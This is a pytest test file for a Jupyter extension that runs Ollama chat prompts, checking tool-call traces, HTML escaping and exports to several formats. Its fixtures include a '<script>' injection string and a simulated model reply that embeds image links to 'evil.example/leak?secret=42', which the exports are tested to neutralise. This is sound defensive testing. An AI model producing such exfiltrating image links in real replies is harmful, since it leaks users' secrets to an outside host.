"""Traces: recorded for every round-trip, shown collapsible, kept in the saved notebook, read back."""

from __future__ import annotations

import json

import nbformat
import pytest

import ollama_nb
from ollama_nb import render
from ollama_nb.standin import Turn

from .conftest import execute_notebook

TOOLS = '''
def add_two_numbers(a: int, b: int) -> int:
    """Add two numbers.

    Args:
        a: The first number
        b: The second number
    """
    return a + b

def shout(text: str) -> str:
    """Make text loud."""
    raise RuntimeError("<b>too loud</b>")
'''


def seed_turns() -> list[Turn]:
    return [
        Turn(content="Let me add.", tool_calls=[{"name": "add_two_numbers", "arguments": {"a": 3, "b": 1}},
                                                {"name": "shout", "arguments": {"text": "<script>x</script>"}}],
             tool_calls_on_final=True),
        Turn(content="Three plus one is 4."),
    ]  # fmt: skip


def test_trace_records_turns_and_round_trips(ip, server):
    ip.run_cell(TOOLS)
    server.push(*seed_turns())
    ip.run_cell(
        "%%ollama -m llama3.2 --system 'Be exact.' --tools add_two_numbers,shout\nWhat is three plus one?"
    )
    reply = ip.user_ns["_ollama"]
    trace = reply.trace
    assert (trace.prompt, trace.system, trace.model) == ("What is three plus one?", "Be exact.", "llama3.2")
    assert [t.tool_calls for t in trace.turns] == [2, 0]
    assert all(t.metrics and t.metrics.eval_count > 0 and t.duration_s > 0 for t in trace.turns)
    ok, failed = trace
    assert (ok.name, ok.arguments, ok.coerced, ok.result, ok.status) == (
        "add_two_numbers",
        {"a": 3, "b": 1},
        {"a": 3, "b": 1},
        "4",
        "ok",
    )
    assert (failed.status, failed.error) == ("error", "RuntimeError: <b>too loud</b>")
    assert trace.turns[0].started_s < ok.started_s < failed.started_s < trace.turns[1].started_s
    saved = json.loads(json.dumps(reply.to_record()))
    assert ollama_nb.Reply.from_record(saved).trace == trace
    kinds = ["turn", "round", "round", "turn", "context"]  # one list, in order; the context meter last
    assert [e.kind for e in trace.entries] == kinds


def test_trace_html_is_collapsible_escaped_and_timed(ip, server):
    ip.run_cell(TOOLS)
    server.push(*seed_turns())
    ip.run_cell("%%ollama -m llama3.2 --tools add_two_numbers,shout\nWhat is three plus one?")
    reply = ip.user_ns["_ollama"]
    html = render.static_html(reply)
    assert html.count('<details class="ollama-nb-round') == 2
    assert "add_two_numbers(a=3, b=1) → 4 · " in html
    assert (
        '<details class="ollama-nb-round ollama-nb-error">' in html
    )  # the stylesheet colours it (browser test)
    assert "&lt;script&gt;" in html and "&lt;b&gt;too loud" in html and "<script>" not in html
    # two model turns (each split into loading, reading, writing) and two tool calls on one time axis
    assert html.count("<title>model turn ") == 2 and html.count("<title>writing the answer") == 2
    assert html.count("<title>add_two_numbers: ") == 1 and html.count("<title>shout: ") == 1
    assert '<details class="ollama-nb-prompt">' in html


def test_saved_notebook_without_widget_state_keeps_answer_and_trace(server, tmp_path):
    server.push(*seed_turns())
    nb = execute_notebook(["%load_ext ollama_nb", TOOLS,
                           "%%ollama -m llama3.2 --tools add_two_numbers,shout\nWhat is three plus one?"], server)  # fmt: skip
    nb.metadata.pop("widgets", None)  # as JupyterLab saves by default
    path = tmp_path / "saved.ipynb"
    nbformat.write(nb, path)

    reopened = nbformat.read(path, as_version=4)
    (output,) = [o for o in reopened.cells[2].outputs if o["output_type"] == "display_data"]
    html = output["data"]["text/html"]
    assert "Let me add." in html and "Three plus one is 4." in html
    assert html.count('<details class="ollama-nb-round') == 2
    assert "✓ add_two_numbers(a=3, b=1) → 4" in output["data"]["text/plain"]

    from nbconvert import HTMLExporter  # what `jupyter nbconvert --to html` writes

    page, _ = HTMLExporter().from_notebook_node(reopened)
    assert page.count('<details class="ollama-nb-round') == 2 and "Three plus one is 4." in page
    assert "<script>x</script>" not in page and "&lt;script&gt;x&lt;/script&gt;" in page

    (trace,) = ollama_nb.load_traces(path)
    assert [r.name for r in trace] == ["add_two_numbers", "shout"] and trace[0].result == "4"
    messages = ollama_nb.load_conversation(path)
    assert [m["role"] for m in messages] == ["user", "assistant", "tool", "tool", "assistant"]


@pytest.mark.parametrize("suffix", [".ipynb", ".md", ".html", ".json"])
def test_export_round_trips(ip, server, tmp_path, suffix, capsys):
    ip.run_cell(TOOLS)
    server.push(*seed_turns())
    ip.run_cell("%%ollama -m llama3.2 --tools add_two_numbers,shout\nWhat is three plus one?")
    path = tmp_path / f"chat{suffix}"
    ip.run_cell(f"%ollama export {path}")
    assert f"Wrote {path}" in capsys.readouterr().out
    text = path.read_text()
    if suffix == ".ipynb":
        nb = nbformat.reads(text, as_version=4)
        nbformat.validate(nb)
        assert (
            "What is three plus one?" in nb.cells[0].source and "Three plus one is 4." in nb.cells[1].source
        )
        assert nb.cells[2].outputs[0]["data"]["text/html"].count("<details") == 2
    elif suffix == ".json":
        (record,) = json.loads(text)["replies"]
        assert ollama_nb.Reply.from_record(record).trace == ip.user_ns["_ollama"].trace
    elif suffix == ".md":  # plain markdown, readable as text: bullets for the trace, no live HTML
        assert "Three plus one is 4." in text and "<details" not in text and "<div" not in text
        assert "- `✓ add_two_numbers(a=3, b=1) → 4 · " in text and "- `✗ shout(" in text
    else:
        assert "Three plus one is 4." in text and text.count('<details class="ollama-nb-round') == 2
        assert "<script>" not in text


def test_export_refuses_an_unknown_format(ip, server, tmp_path):
    ip.run_cell("%%ollama -m llama3.2\nhi")
    result = ip.run_cell(f"%ollama export {tmp_path / 'chat.docx'}")
    assert "use .ipynb, .md, .html or .json" in str(result.error_in_exec)


@pytest.mark.parametrize("suffix", [".md", ".html", ".ipynb"])
def test_exports_never_load_a_remote_image_by_themselves(ip, server, tmp_path, suffix):
    server.push(
        Turn(content="Here: ![chart](http://evil.example/leak?secret=42) <img src=http://evil.example/x>")
    )
    ip.run_cell("%%ollama -m llama3.2\nDraw it")
    path = tmp_path / f"chat{suffix}"
    ip.run_cell(f"%ollama export {path}")
    text = path.read_text()
    if suffix == ".ipynb":  # markdown cells: JupyterLab would load their images
        text = "".join(
            c.source for c in nbformat.reads(text, as_version=4).cells if c.cell_type == "markdown"
        )
    assert "http://evil.example/leak?secret=42" in text  # named, so a reader can follow it by hand
    assert "![chart](http" not in text and "<img" not in text
